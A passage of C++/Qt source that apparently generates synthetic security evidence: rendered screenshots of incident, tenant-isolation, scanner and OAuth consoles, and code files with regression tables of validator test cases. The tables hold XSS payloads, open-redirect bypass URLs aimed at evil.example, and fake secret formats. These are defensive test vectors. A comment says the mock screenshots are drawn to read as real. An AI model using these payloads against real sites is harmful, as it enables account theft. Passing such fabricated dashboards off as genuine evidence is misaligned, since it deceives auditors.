        s = {u"incident-dashboard.png"_s, u"OnCall Incidents"_s, u"https://"_s + c.pslug + u".oncall.example/incidents"_s, u"Security incidents"_s,
             u"Service: "_s + c.app + u" \u00b7 escalation policy: SecOps 24x7"_s, u"Last 90 days"_s,
             {u"Incidents"_s, u"Schedules"_s, u"Escalation policies"_s, u"Services"_s, u"Analytics"_s, u"Postmortems"_s}, 0,
             QColor(0x9b, 0x1c, 0x31), {}, {}, {}};
        s.settings = {{u"Page on-call for SEV1/SEV2"_s, u"ON"_s}, {u"Notify marketplace within 24 h"_s, u"ON"_s},
                      {u"Escalate unacknowledged pages after"_s, u"5 minutes"_s}, {u"Auto-create postmortem"_s, u"ON"_s}};
        s.columns = {u"Incident"_s, u"Severity"_s, u"Title"_s, u"Status"_s, u"Opened"_s, u"Time to ack"_s};
        for (int i = 0; i < 8; ++i) {
            const int sev = 2 + c.below(3);
            s.rows.append({u"INC-"_s + QString::number(2000 + c.below(800)), (sev == 2 ? u"bad:SEV"_s : u"warn:SEV"_s) + QString::number(sev),
                           c.pick({u"Impossible-travel sign-in", u"Credential stuffing on login", u"Suspicious IAM key creation", u"WAF spike on /api/v2/export",
                                   u"Malware detection on laptop", u"Phishing report"}),
                           i == 0 ? u"warn:Investigating"_s : u"ok:Resolved"_s, when(), QString::number(1 + c.below(9)) + u" min"_s});
        }
        break;
    }
    case DataSegregation: {
        s = {u"tenant-isolation-console.png"_s, c.app + u" Ops"_s, u"https://ops."_s + c.slug + u".example.com/tenants"_s, u"Tenants"_s,
             u"Isolation model: shared schema, row-level security \u00b7 audit "_s + d0, u"Tenants"_s,
             {u"Overview"_s, u"Tenants"_s, u"Isolation audit"_s, u"Support access"_s, u"Keys"_s, u"Settings"_s}, 1,
             QColor(0x3d, 0x4d, 0xb7), {}, {}, {}};
        s.settings = {{u"Row-level security enforced on all tenant tables"_s, u"ON"_s}, {u"Separate encryption key per tenant"_s, u"ON"_s},
                      {u"Cross-tenant queries from application role"_s, u"OFF"_s}, {u"Support access"_s, u"Just-in-time, 60 min"_s}};
        s.columns = {u"Tenant"_s, u"Plan"_s, u"Region"_s, u"Isolation"_s, u"Key"_s, u"Last audit"_s};
        for (int i = 0; i < 9; ++i) {
            const bool dedicated = c.chance(20);
            s.rows.append({c.tenant(), dedicated ? u"Enterprise"_s : c.pick({u"Team", u"Business"}), c.pick({u"eu-central-1", u"us-east-1", u"ap-southeast-2"}),
                           dedicated ? u"ok:Dedicated DB"_s : u"ok:RLS enforced"_s, u"ok:Per-tenant"_s, when()});
        }
        break;
    }
    default: {
        // The four web-vulnerability topics share a scanner / gateway console.
        static const QStringView files[] = {u"dast-scan-dashboard.png", u"csp-violations.png", u"api-gateway-schema.png", u"oauth-redirect-settings.png"};
        const int k = c.cat == Csrf ? 0 : c.cat == Xss ? 1 : c.cat == MassAssignment ? 2 : 3;
        s.file = files[k].toString();
        s.accent = QColor(0x0b, 0x72, 0x85);
        s.nav = {u"Overview"_s, u"Scans"_s, u"Policies"_s, u"Findings"_s, u"Integrations"_s, u"Settings"_s};
        s.activeNav = 1 + k % 3;
        s.product = k == 2 ? u"API Gateway"_s : k == 3 ? u"IdentityHub Developer"_s : u"AppScan Cloud"_s;
        s.url = u"https://"_s + c.pslug + u".console.example/"_s + c.slug + u"/"_s + QStringList{u"scans"_s, u"csp"_s, u"schemas"_s, u"oauth/clients"_s}.at(k);
        s.subtitle = u"Target https://"_s + c.slug + u".example.com \u00b7 updated "_s + d0;
        if (k == 0) {
            s.heading = u"Scan policy: Web app - CSRF & session"_s;
            s.settings = {{u"Verify anti-CSRF tokens on state-changing requests"_s, u"ON"_s}, {u"Check SameSite cookie attributes"_s, u"ON"_s},
                          {u"Authenticated scanning"_s, u"ON"_s}, {u"Fail pipeline on"_s, u"High"_s}};
            s.tableTitle = u"Scans"_s;
            s.columns = {u"Scan"_s, u"Target"_s, u"Started"_s, u"High"_s, u"Medium"_s, u"Low"_s, u"Result"_s};
            for (int i = 0; i < 8; ++i)
                s.rows.append({u"#"_s + QString::number(900 + c.below(99)), c.pick({u"web (authenticated)", u"api v2", u"admin console"}), when(),
                               u"0"_s, QString::number(c.below(2)), QString::number(c.below(4)), u"ok:Passed"_s});
        } else if (k == 1) {
            s.heading = u"Content-Security-Policy reports"_s;
            s.settings = {{u"Policy enforced (not report-only)"_s, u"ON"_s}, {u"Nonces with strict-dynamic"_s, u"ON"_s},
                          {u"Trusted Types required"_s, u"ON"_s}, {u"Report endpoint"_s, u"/csp-report"_s}};
            s.tableTitle = u"Blocked in the last 7 days"_s;
            s.columns = {u"Time"_s, u"Directive"_s, u"Blocked URI"_s, u"Page"_s, u"Count"_s, u"Action"_s};
            for (int i = 0; i < 8; ++i)
                s.rows.append({when(), c.pick({u"script-src-elem", u"script-src-attr", u"require-trusted-types-for", u"img-src"}),
                               c.pick({u"inline", u"https://cdn.evil.example/x.js", u"eval", u"data"}), c.pick({u"/search", u"/tickets", u"/profile", u"/editor"}),
                               QString::number(1 + c.below(300)), u"ok:Blocked"_s});
        } else if (k == 2) {
            s.heading = u"Request validation"_s;
            s.settings = {{u"Validate request bodies against OpenAPI schema"_s, u"ON"_s}, {u"Reject unknown properties"_s, u"ON"_s},
                          {u"Log rejected fields"_s, u"ON"_s}};
            s.tableTitle = u"Write endpoints"_s;
            s.columns = {u"Endpoint"_s, u"Method"_s, u"Schema"_s, u"Unknown fields"_s, u"Rejected (7d)"_s, u"Status"_s};
            static const QStringView endpoints[] = {u"/api/v2/users/{id}", u"/api/v2/invoices", u"/api/v2/projects/{id}", u"/api/v2/signup",
                                                    u"/api/v2/settings", u"/api/v2/webhooks", u"/api/v2/teams/{id}/members"};
            for (int i = 0; i < 7; ++i)
                s.rows.append({endpoints[i].toString(), c.pick({u"PATCH", u"POST", u"PUT"}), u"ok:Strict"_s, u"bad:Reject"_s,
                               QString::number(c.below(60)), u"ok:Enforced"_s});
        } else {
            s.heading = u"OAuth client: "_s + c.slug + u"-web"_s;
            s.settings = {{u"Exact-match redirect URIs only"_s, u"ON"_s}, {u"Allow wildcard subdomains"_s, u"OFF"_s},
                          {u"Require PKCE"_s, u"ON"_s}, {u"Allow http:// callbacks"_s, u"OFF"_s}};
            s.tableTitle = u"Allowed redirect URIs"_s;
            s.columns = {u"Redirect URI"_s, u"Type"_s, u"Added by"_s, u"Added"_s, u"Status"_s};
            static const QStringView paths[] = {u"/auth/callback", u"/oauth2/callback", u"/marketplace/install/callback", u"/logout/done", u"/sso/acs"};
            for (int i = 0; i < 6; ++i)
                s.rows.append({u"https://"_s + c.pick({u"", u"admin.", u"help."}) + c.slug + u".example.com"_s + c.pick(paths),
                               c.pick({u"Login", u"Logout", u"Install"}), c.email(c.person()), when(), u"ok:Active"_s});
        }
        break;
    }
    }
    return s;
}

GeneratedEvidence makePng(Ctx &c)
{
    requireGuiApplication();
    const Screen s = screenFor(c);
    constexpr int W = 1200, H = 800, sideW = 220;
    QImage img(W, H, QImage::Format_ARGB32);
    img.fill(QColor(0xf4, 0xf6, 0xf8));
    QPainter p(&img);
    p.setRenderHint(QPainter::Antialiasing);
    const QFont base = QGuiApplication::font();
    auto font = [&](int px, bool bold = false) {
        QFont f = base;
        f.setPixelSize(px);
        f.setBold(bold);
        return f;
    };
    const QColor text(0x1f, 0x29, 0x33), muted(0x62, 0x7d, 0x98), line(0xd9, 0xe2, 0xec);

    // Browser chrome, so it reads as a screenshot and not a mock-up.
    p.fillRect(0, 0, W, 40, QColor(0xde, 0xe1, 0xe6));
    const QColor dots[] = {QColor(0xff, 0x5f, 0x57), QColor(0xfe, 0xbc, 0x2e), QColor(0x28, 0xc8, 0x40)};
    for (int i = 0; i < 3; ++i) {
        p.setPen(Qt::NoPen);
        p.setBrush(dots[i]);
        p.drawEllipse(QPointF(20 + i * 20, 20), 6, 6);
    }
    p.setBrush(Qt::white);
    p.drawRoundedRect(QRectF(90, 6, 280, 40), 8, 8);
    p.setPen(text);
    p.setFont(font(12));
    p.drawText(QRectF(104, 6, 250, 34), Qt::AlignVCenter, QFontMetrics(font(12)).elidedText(s.heading + u" - "_s + s.product, Qt::ElideRight, 250));
    p.fillRect(0, 40, W, 40, Qt::white);
    p.setPen(Qt::NoPen);
    p.setBrush(QColor(0xf1, 0xf3, 0xf4));
    p.drawRoundedRect(QRectF(80, 46, W - 160, 28), 14, 14);
    p.setPen(QPen(muted, 1.5));
    p.setBrush(Qt::NoBrush);
    p.drawRect(QRectF(96, 60, 9, 7));
    p.drawArc(QRectF(97, 54, 7, 10), 0, 180 * 16);
    p.setPen(text);
    p.setFont(font(13));
    p.drawText(QRectF(114, 46, W - 220, 28), Qt::AlignVCenter, s.url);
    p.fillRect(0, 79, W, 1, line);

    // Application header.
    p.fillRect(0, 80, W, 52, s.accent);
    p.setPen(Qt::white);
    p.setFont(font(18, true));
    p.drawText(QRectF(24, 80, 400, 52), Qt::AlignVCenter, s.product);
    p.setBrush(QColor(255, 255, 255, 60));
    p.setPen(Qt::NoPen);
    p.drawRoundedRect(QRectF(W - 420, 92, 300, 28), 6, 6);
    p.setPen(QColor(255, 255, 255, 200));
    p.setFont(font(12));
    p.drawText(QRectF(W - 408, 92, 280, 28), Qt::AlignVCenter, u"Search"_s);
    p.setBrush(Qt::white);
    p.setPen(Qt::NoPen);
    p.drawEllipse(QPointF(W - 44, 106), 16, 16);
    p.setPen(s.accent);
    p.setFont(font(12, true));
    const QStringList words = c.partner.split(u' ', Qt::SkipEmptyParts);
    QString initials;
    for (qsizetype i = 0; i < qMin<qsizetype>(2, words.size()); ++i)
        initials += words.at(i).left(1).toUpper();
    p.drawText(QRectF(W - 60, 90, 32, 32), Qt::AlignCenter, initials);

    // Sidebar.
    p.fillRect(0, 132, sideW, H - 132, Qt::white);
    p.fillRect(sideW, 132, 1, H - 132, line);
    p.setFont(font(14));
    for (qsizetype i = 0; i < s.nav.size(); ++i) {
        const QRectF r(0, 148 + i * 40, sideW, 36);
        if (i == s.activeNav) {
            p.fillRect(r, QColor(s.accent.red(), s.accent.green(), s.accent.blue(), 28));
            p.fillRect(QRectF(0, r.y(), 4, r.height()), s.accent);
        }
        p.setPen(i == s.activeNav ? s.accent : text);
        p.drawText(r.adjusted(24, 0, 0, 0), Qt::AlignVCenter, s.nav.at(i));
    }

    // Page heading.
    const int x0 = sideW + 28, cw = W - x0 - 28;
    p.setPen(muted);
    p.setFont(font(12));
    p.drawText(QRectF(x0, 142, cw, 18), Qt::AlignVCenter, s.product + u"  /  "_s + s.nav.value(s.activeNav) + u"  /  "_s + s.heading);
    p.setPen(text);
    p.setFont(font(22, true));
    p.drawText(QRectF(x0, 162, cw, 32), Qt::AlignVCenter, s.heading);
    p.setPen(muted);
    p.setFont(font(13));
    p.drawText(QRectF(x0, 194, cw, 20), Qt::AlignVCenter, s.subtitle);

    auto card = [&](const QRectF &r) {
        p.setPen(QPen(line, 1));
        p.setBrush(Qt::white);
        p.drawRoundedRect(r, 6, 6);
    };
    // Settings card: two columns of toggles.
    const int rowsPerCol = int((s.settings.size() + 1) / 2);
    const QRectF settingsCard(x0, 226, cw, 44 + rowsPerCol * 36);
    card(settingsCard);
    p.setPen(text);
    p.setFont(font(15, true));
    p.drawText(QRectF(x0 + 16, 232, cw, 28), Qt::AlignVCenter, u"Settings"_s);
    for (qsizetype i = 0; i < s.settings.size(); ++i) {
        const auto &[label, value] = s.settings.at(i);
        const qreal cx = x0 + 16 + (i / rowsPerCol) * (cw / 2.0), cy = 266 + (i % rowsPerCol) * 36;
        p.setPen(text);
        p.setFont(font(13));
        p.drawText(QRectF(cx, cy, cw / 2.0 - 110, 28), Qt::AlignVCenter, QFontMetrics(font(13)).elidedText(label, Qt::ElideRight, int(cw / 2.0 - 110)));
        const qreal tx = cx + cw / 2.0 - 100;
        if (value == u"ON"_s || value == u"OFF"_s) {
            const bool on = value == u"ON"_s;
            p.setPen(Qt::NoPen);
            p.setBrush(on ? QColor(0x2b, 0x8a, 0x3e) : QColor(0xbc, 0xcc, 0xdc));
            p.drawRoundedRect(QRectF(tx, cy + 4, 40, 20), 10, 10);
            p.setBrush(Qt::white);
            p.drawEllipse(QPointF(on ? tx + 30 : tx + 10, cy + 14), 8, 8);
            p.setPen(on ? QColor(0x2b, 0x8a, 0x3e) : muted);
            p.setFont(font(12, true));
            p.drawText(QRectF(tx + 46, cy, 40, 28), Qt::AlignVCenter, value);
        } else {
            p.setPen(QPen(line, 1));
            p.setBrush(QColor(0xf8, 0xfa, 0xfc));
            p.drawRoundedRect(QRectF(tx - 40, cy + 2, 120, 24), 4, 4);
            p.setPen(text);
            p.setFont(font(12));
            p.drawText(QRectF(tx - 32, cy + 2, 104, 24), Qt::AlignVCenter, QFontMetrics(font(12)).elidedText(value, Qt::ElideRight, 100));
        }
    }

    // Table card.
    const qreal ty = settingsCard.bottom() + 18;
    const QRectF tableCard(x0, ty, cw, qMin<qreal>(H - ty - 20, 52 + 34.0 * (s.rows.size() + 1)));
    card(tableCard);
    p.setPen(text);
    p.setFont(font(15, true));
    p.drawText(QRectF(x0 + 16, ty + 8, cw, 28), Qt::AlignVCenter, s.tableTitle);
    QList<qreal> widths;
    qreal total = 0;
    for (qsizetype i = 0; i < s.columns.size(); ++i) {
        qsizetype longest = s.columns.at(i).size();
        for (const QStringList &row : s.rows)
            longest = qMax(longest, row.value(i).size());
        widths.append(qBound<qreal>(6, qreal(longest), 26) + 2);
        total += widths.last();
    }
    for (qreal &w : widths)
        w = w / total * (cw - 32);
    qreal y = ty + 44;
    p.fillRect(QRectF(x0 + 1, y, cw - 2, 32), QColor(0xf0, 0xf4, 0xf8));
    p.setFont(font(12, true));
    p.setPen(muted);
    qreal x = x0 + 16;
    for (qsizetype i = 0; i < s.columns.size(); ++i) {
        p.drawText(QRectF(x, y, widths.at(i) - 8, 32), Qt::AlignVCenter, s.columns.at(i).toUpper());
        x += widths.at(i);
    }
    y += 32;
    const QFont cellFont = font(13);
    const QFontMetrics cellMetrics(cellFont);
    for (const QStringList &row : s.rows) {
        if (y + 34 > tableCard.bottom())
            break;
        p.fillRect(QRectF(x0 + 1, y + 33, cw - 2, 1), line);
        x = x0 + 16;
        for (qsizetype i = 0; i < s.columns.size(); ++i) {
            QString cell = row.value(i);
            QColor pill;
            if (cell.startsWith(u"ok:"_s))
                pill = QColor(0x2b, 0x8a, 0x3e);
            else if (cell.startsWith(u"warn:"_s))
                pill = QColor(0xb4, 0x6b, 0x00);
            else if (cell.startsWith(u"bad:"_s))
                pill = QColor(0xc5, 0x30, 0x30);
            p.setFont(cellFont);
            if (pill.isValid()) {
                cell = cell.mid(cell.indexOf(u':') + 1);
                const QString shown = cellMetrics.elidedText(cell, Qt::ElideRight, int(widths.at(i) - 28));
                const qreal pw = cellMetrics.horizontalAdvance(shown) + 16;
                p.setPen(Qt::NoPen);
                p.setBrush(QColor(pill.red(), pill.green(), pill.blue(), 30));
                p.drawRoundedRect(QRectF(x, y + 6, pw, 22), 11, 11);
                p.setPen(pill);
                p.drawText(QRectF(x + 8, y, pw, 34), Qt::AlignVCenter, shown);
            } else {
                p.setPen(i == 0 ? text : QColor(0x33, 0x4e, 0x68));
                p.drawText(QRectF(x, y, widths.at(i) - 8, 34), Qt::AlignVCenter, cellMetrics.elidedText(cell, Qt::ElideRight, int(widths.at(i) - 8)));
            }
            x += widths.at(i);
        }
        y += 34;
    }
    p.end();

    QByteArray png;
    QBuffer buffer(&png);
    buffer.open(QIODevice::WriteOnly);
    img.save(&buffer, "PNG");
    return {s.file, u"image/png"_s, png};
}

// ---------------------------------------------------------------------------
// Source code

enum class Lang { Python, JavaScript, Java, Go, Ruby, CSharp, Php };

struct CodeTemplate
{
    Cat cat;
    Lang lang;
    const char16_t *file;
    const char16_t *checker; // called by the generated self-check with one string
    const char16_t *body;    // {{VECTORS}} marks where the regression table goes
};

// The texts are at the end of this file.
std::span<const CodeTemplate> codeTemplates();


struct Vector
{
    QString value;
    bool expected;
};

QList<Vector> vectorsFor(Ctx &c, Lang lang, int n)
{
    QList<Vector> out;
    QSet<QString> seen;
    const QString host = c.slug + u".example.com"_s;
    // A hand-kept regression table has no duplicates; small value spaces
    // simply give shorter tables.
    for (int attempt = 0; out.size() < n && attempt < n * 8; ++attempt) {
        if (!out.isEmpty()) {
            if (seen.contains(out.last().value))
                out.removeLast();
            else
                seen.insert(out.last().value);
        }
        const QString num = QString::number(c.range(1, 99999));
        switch (c.cat) {
        case DataSegregation: {
            const QString t = c.tenant(), other = c.tenant();
            switch (c.below(6)) {
            case 0: out.append({t + u":/tenants/"_s + t + u"/invoices/"_s + num, true}); break;
            case 1: out.append({t + u":/tenants/"_s + other + u"/invoices/"_s + num, other == t}); break;
            case 2: out.append({t + u":/api/v2/me"_s, true}); break;
            case 3: out.append({u":/tenants/"_s + t + u"/users/"_s + num, false}); break;
            case 4: out.append({t + u":/tenants/"_s + other + u"/reports/"_s + num + u"/export"_s, other == t}); break;
            default: out.append({t + u":/tenants/"_s + t + u"/projects/"_s + num, true}); break;
            }
            break;
        }
        case SecurityPatches: {
            struct Min { const char16_t *name; std::initializer_list<int> version; };
            static const Min py[] = {{u"django", {4, 2, 16}}, {u"requests", {2, 32, 0}}, {u"urllib3", {2, 2, 2}}, {u"jinja2", {3, 1, 4}}, {u"cryptography", {43, 0, 1}}, {u"pillow", {10, 3, 0}}};
            static const Min rb[] = {{u"rails", {7, 1, 3, 4}}, {u"nokogiri", {1, 16, 5}}, {u"rack", {3, 0, 11}}, {u"puma", {6, 4, 3}}, {u"devise", {4, 9, 4}}};
            const bool ruby = lang == Lang::Ruby;
            if (c.chance(15)) {
                out.append({c.pick({u"flask", u"sidekiq", u"boto3", u"redis", u"pydantic"}) + u'@' + QString::number(c.range(1, 9)) + u'.' + QString::number(c.below(20)) + u".0"_s, true});
                break;
            }
            const Min &m = ruby ? rb[c.below(5)] : py[c.below(6)];
            QList<int> v(m.version);
            const int mode = c.below(3); // below, equal, above the minimum
            if (mode == 0) {
                qsizetype k = v.size() - 1;
                while (k > 0 && v.at(k) == 0)
                    --k;
                --v[k];
            } else if (mode == 2) {
                ++v[v.size() - 1];
            }
            QStringList parts;
            for (const int x : v)
                parts.append(QString::number(x));
            out.append({QString::fromUtf16(m.name) + u'@' + parts.join(u'.'), mode != 0});
            break;
        }
        case BreachResponse: {
            const bool regulated = c.chance(45);
            out.append({c.pick({u"credential_stuffing", u"sql_injection", u"ransomware", u"insider_access", u"lost_laptop", u"phishing", u"misconfigured_bucket",
                                u"account_takeover", u"supply_chain", u"api_key_leak", u"stored_xss", u"backup_exposure", u"vendor_breach"})
                            + u':' + (regulated ? c.pick({u"pii", u"payment", u"health", u"credentials"}) : c.pick({u"internal", u"none", u"public", u"telemetry"})),
                        regulated});
            break;
        }
        case Csrf: {
            static const QStringView paths[] = {u"/api/v2/invoices", u"/api/v2/users/", u"/account/email", u"/api/v2/settings", u"/api/v2/integrations", u"/logout"};
            static const QStringView exempt[] = {u"/webhooks/stripe", u"/webhooks/github/push", u"/scim/v2/Users/"};
            const QString method = c.pick({u"GET", u"HEAD", u"OPTIONS", u"POST", u"PUT", u"PATCH", u"DELETE"});
            const bool safe = method == u"GET"_s || method == u"HEAD"_s || method == u"OPTIONS"_s;
            if (c.chance(20))
                out.append({method + u' ' + c.pick(exempt) + (c.chance(50) ? num : QString()), false});
            else
                out.append({method + u' ' + c.pick(paths) + (c.chance(40) ? num : QString()), !safe});
            break;
        }
        case Xss: {
            static const QStringView hostile[] = {u"<script>alert(1)</script>", u"<img src=x onerror=alert(document.cookie)>", u"<svg/onload=alert(1)>",
                                                  u"<a href=javascript:alert(1)>click</a>", u"<iframe src=/admin></iframe>", u"<p style=background:url(x)>hi</p>",
                                                  u"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", u"<details open ontoggle=alert(1)>"};
            if (c.chance(55))
                out.append({c.pick(hostile), false});
            else
                out.append({c.pick({u"Invoice ", u"Order ", u"Ticket ", u"Meeting notes "}) + num + c.pick({u" paid", u" <b>urgent</b>", u" for <em>Q4</em>", u""}), true});
            break;
        }
        case CustomerData: {
            // Both converters fold case, so column spellings vary as in real schemas.
            const bool sensitive = c.chance(50);
            QString field = sensitive ? c.pick({u"email", u"phone", u"date_of_birth", u"tax_id", u"iban", u"street_address", u"ip_address", u"national_id"})
                                      : c.pick({u"display_name", u"plan", u"created_at", u"locale", u"theme", u"seat_count", u"status", u"updated_at",
                                                u"avatar_url", u"company_size", u"referral_code", u"last_login_at", u"billing_cycle"});
            const int spelling = c.below(4);
            if (spelling == 1)
                field = field.toUpper();
            else if (spelling == 2)
                field[0] = field.at(0).toUpper();
            out.append({field, sensitive});
            break;
        }
        case EmployeeMfa: {
            static const QStringView methods[] = {u"pwd", u"otp", u"hwk", u"swk", u"sms", u"tel", u"kba", u"pin", u"sc", u"user", u"face", u"pop", u"mca"};
            static const QStringList strong = {u"hwk"_s, u"swk"_s, u"otp"_s, u"sc"_s, u"pop"_s};
            QStringList used;
            bool ok = false;
            for (int k = c.range(c.chance(5) ? 0 : 1, 3); k > 0; --k) {
                const QString m = c.pick(methods);
                if (!used.contains(m))
                    used.append(m);
                ok = ok || strong.contains(m);
            }
            out.append({u"amr="_s + used.join(u','), ok});
            break;
        }
        case Secrets: {
            const bool python = lang == Lang::Python;
            switch (c.below(python ? 10 : 8)) {
            case 0: out.append({u"AKIA"_s + c.alnum(16, true), true}); break;
            case 1: out.append({u"ghp_"_s + c.alnum(36), true}); break;
            case 2: out.append({u"sk_live_"_s + c.alnum(24), true}); break;
            case 3: out.append({u"password="_s + c.alnum(12) + u"&user=svc"_s, true}); break;
            case 4: out.append({u"-----BEGIN RSA PRIVATE KEY-----"_s, true}); break;
            case 5: out.append({u"postgres://db.internal:5432/"_s + c.ident, false}); break;
            case 6: out.append({c.pick({u"feature_flag=on", u"hello world", u"AKIA123", u"request completed in 42 ms", u"ghp_short"}), false}); break;
            case 7: out.append({QUuid::createUuidV5(QUuid(), num).toString(QUuid::WithoutBraces), false}); break;
            case 8: out.append({c.email(c.person()), true}); break;
            default: out.append({u"4111 1111 1111 1111"_s, true}); break;
            }
            break;
        }
        case MassAssignment: {
            const bool ok = c.chance(45);
            out.append({ok ? c.pick({u"name", u"display_name", u"locale", u"time_zone", u"avatar_url", u"phone", u"notification_email"})
                           : c.pick({u"role", u"admin", u"is_admin", u"tenant_id", u"account_id", u"owner_id", u"email_verified", u"created_at",
                                     u"password_digest", u"id", u"updated_at", u"confirmed_at", u"permissions", u"plan", u"credit_balance",
                                     u"stripe_customer_id", u"user_type", u"preferences", u"api_quota", u"locked_at"}),
                        ok});
            break;
        }
        case TrustedRedirects:
        case CatCount: {
            switch (c.below(11)) {
            case 0: out.append({c.pick({u"/dashboard", u"/settings/billing", u"/projects/", u"/"}) + (c.chance(50) ? num : QString()), true}); break;
            case 1: out.append({u"https://"_s + host + u"/home?tab="_s + num, true}); break;
            case 2: out.append({u"https://admin."_s + host + u"/users/"_s + num, true}); break;
            case 3: out.append({u"//evil.example/login"_s, false}); break;
            case 4: out.append({u"/\\evil.example"_s, false}); break;
            case 5: out.append({u"https://"_s + host + u".evil.example/cb"_s, false}); break;
            case 6: out.append({u"http://"_s + host + u"/"_s, false}); break;
            case 7: out.append({u"javascript:alert(document.domain)"_s, false}); break;
            case 8: out.append({u"https://user@evil.example/"_s, false}); break;
            case 9: out.append({u"https://admin."_s + host + u":8443/"_s, false}); break;
            default: out.append({u"https://evil.example/?next="_s + host, false}); break;
            }
            break;
        }
        }
    }
    if (!out.isEmpty() && seen.contains(out.last().value))
        out.removeLast();
    return out;
}

QString quoted(QString v, QChar quote)
{
    v.replace(u'\\', u"\\\\"_s);
    v.replace(quote, QString(u'\\') + quote);
    return quote + v + quote;
}

QString vectorBlock(Lang lang, const QString &checker, const QList<Vector> &cases)
{
    const QString comment = u"Regression vectors: every bypass found in code review, penetration tests and the bug bounty is added here; the self-check runs in CI and at startup."_s;
    QString rows;
    auto row = [&](const QString &fmt, const Vector &v, QChar q, const QString &t, const QString &f) {
        rows += QString(fmt).replace(u"@V@"_s, quoted(v.value, q)).replace(u"@B@"_s, v.expected ? t : f) + u'\n';
    };
    switch (lang) {
    case Lang::Python:
        for (const Vector &v : cases)
            row(u"    (@V@, @B@),"_s, v, u'"', u"True"_s, u"False"_s);
        return u"# "_s + comment + u"\nCASES = [\n"_s + rows + u"]\n\n\ndef self_check() -> None:\n"
               u"    failures = [value for value, expected in CASES if "_s + checker + u"(value) is not expected]\n"
               u"    if failures:\n        raise AssertionError(f\"policy regressions: {failures!r}\")\n"_s;
    case Lang::JavaScript:
        for (const Vector &v : cases)
            row(u"  [@V@, @B@],"_s, v, u'\'', u"true"_s, u"false"_s);
        return u"// "_s + comment + u"\nconst CASES = [\n"_s + rows + u"];\n\nfunction selfCheck() {\n"
               u"  const failures = CASES.filter(([value, expected]) => "_s + checker + u"(value) !== expected);\n"
               u"  if (failures.length > 0) {\n    throw new Error(`policy regressions: ${JSON.stringify(failures)}`);\n  }\n}\n"_s;
    case Lang::Java:
        for (const Vector &v : cases)
            row(u"    {@V@, @B@},"_s, v, u'"', u"true"_s, u"false"_s);
        return u"// "_s + comment + u"\nstatic final Object[][] CASES = {\n"_s + rows + u"};\n\nstatic void selfCheck() {\n"
               u"    for (Object[] c : CASES) {\n        if ("_s + checker + u"((String) c[0]) != (Boolean) c[1]) {\n"
               u"            throw new IllegalStateException(\"policy regression: \" + c[0]);\n        }\n    }\n}\n"_s;
    case Lang::Go:
        for (const Vector &v : cases)
            row(u"\t{@V@, @B@},"_s, v, u'"', u"true"_s, u"false"_s);
        return u"// "_s + comment + u"\nvar cases = []struct {\n\tvalue string\n\twant  bool\n}{\n"_s + rows
               + u"}\n\n// SelfCheck fails when the policy no longer rejects a known bypass.\nfunc SelfCheck() error {\n"
                 u"\tfor _, c := range cases {\n\t\tif got := "_s + checker + u"(c.value); got != c.want {\n"
                 u"\t\t\treturn fmt.Errorf(\"policy regression for %q: got %v, want %v\", c.value, got, c.want)\n\t\t}\n\t}\n\treturn nil\n}\n"_s;
    case Lang::Ruby:
        for (const Vector &v : cases)
            row(u"  [@V@, @B@],"_s, v, u'\'', u"true"_s, u"false"_s);
        return u"# "_s + comment + u"\nCASES = [\n"_s + rows + u"].freeze\n\ndef self.self_check!\n"
               u"  CASES.each do |value, expected|\n    raise \"policy regression: #{value}\" unless "_s + checker
               + u"(value) == expected\n  end\nend\n"_s;
    case Lang::CSharp:
        for (const Vector &v : cases)
            row(u"    (@V@, @B@),"_s, v, u'"', u"true"_s, u"false"_s);
        return u"// "_s + comment + u"\nprivate static readonly (string Value, bool Expected)[] Cases =\n{\n"_s + rows
               + u"};\n\npublic static void SelfCheck()\n{\n    foreach (var (value, expected) in Cases)\n    {\n        if ("_s + checker
               + u"(value) != expected)\n            throw new InvalidOperationException($\"policy regression: {value}\");\n    }\n}\n"_s;
    case Lang::Php:
        for (const Vector &v : cases)
            row(u"    [@V@, @B@],"_s, v, u'\'', u"true"_s, u"false"_s);
        return u"// "_s + comment + u"\nprivate const CASES = [\n"_s + rows + u"];\n\npublic static function selfCheck(): void\n{\n"
               u"    foreach (self::CASES as [$value, $expected]) {\n        if ("_s + checker + u"($value) !== $expected) {\n"
               u"            throw new \\RuntimeException(\"policy regression: {$value}\");\n        }\n    }\n}\n"_s;
    }
    return {};
}

QString assemble(const QString &body, const QString &block)
{
    // The block takes the indentation of the line holding the marker, so it
    // lands inside the class or module like hand-written code.
    const qsizetype at = body.indexOf(u"{{VECTORS}}"_s);
    const qsizetype lineStart = body.lastIndexOf(u'\n', at) + 1;
    const QString indent = body.mid(lineStart, at - lineStart);
    QString indented;
    const QStringList lines = block.split(u'\n');
    for (qsizetype i = 0; i < lines.size(); ++i) {
        if (i == lines.size() - 1 && lines.at(i).isEmpty())
            break;
        indented += (lines.at(i).isEmpty() ? QString() : (i == 0 ? QString() : indent) + lines.at(i)) + u'\n';
    }
    indented.chop(1);
    return body.left(at) + indented + body.mid(at + 11);
}

QString mediaTypeOf(Lang lang)
{
    switch (lang) {
    case Lang::Python: return u"text/x-python"_s;
    case Lang::JavaScript: return u"text/javascript"_s;
    case Lang::Java: return u"text/x-java"_s;
    case Lang::Go: return u"text/x-go"_s;
    case Lang::Ruby: return u"text/x-ruby"_s;
    case Lang::CSharp: return u"text/x-csharp"_s;
    case Lang::Php: return u"application/x-php"_s;
    }
    return {};
}

GeneratedEvidence makeCode(Ctx &c)
{
    QList<const CodeTemplate *> mine;
    for (const CodeTemplate &t : codeTemplates())
        if (t.cat == c.cat)
            mine.append(&t);
    const CodeTemplate &t = *mine.at(qsizetype(c.variant % quint32(mine.size())));
    const QString body = fill(QString::fromUtf16(t.body), c);
    const QString checker = QString::fromUtf16(t.checker);
    // Aim for 60-300 lines in total; the table absorbs the difference.
    const qsizetype bodyLines = body.count(u'\n');
    int n = 8 + int((c.variant * 53 + quint32(c.below(40))) % 190);
    n = int(qBound<qsizetype>(60 - bodyLines, n, 285 - bodyLines));
    const QString code = assemble(body, vectorBlock(t.lang, checker, vectorsFor(c, t.lang, n)));
    return {QString::fromUtf16(t.file), mediaTypeOf(t.lang), code.toUtf8()};
}

// ---------------------------------------------------------------------------
// Config

struct ConfigTemplate
{
    Cat cat;
    const char16_t *file, *mediaType, *body;
};

// The texts are at the end of this file.
std::span<const ConfigTemplate> configTemplates();


GeneratedEvidence makeConfig(Ctx &c)
{
    const ConfigTemplate *chosen = nullptr;
    QList<const ConfigTemplate *> mine;
    for (const ConfigTemplate &t : configTemplates())
        if (t.cat == c.cat)
            mine.append(&t);
    if (!mine.isEmpty())
        chosen = mine.at(qsizetype(c.variant % quint32(mine.size())));
    if (chosen)
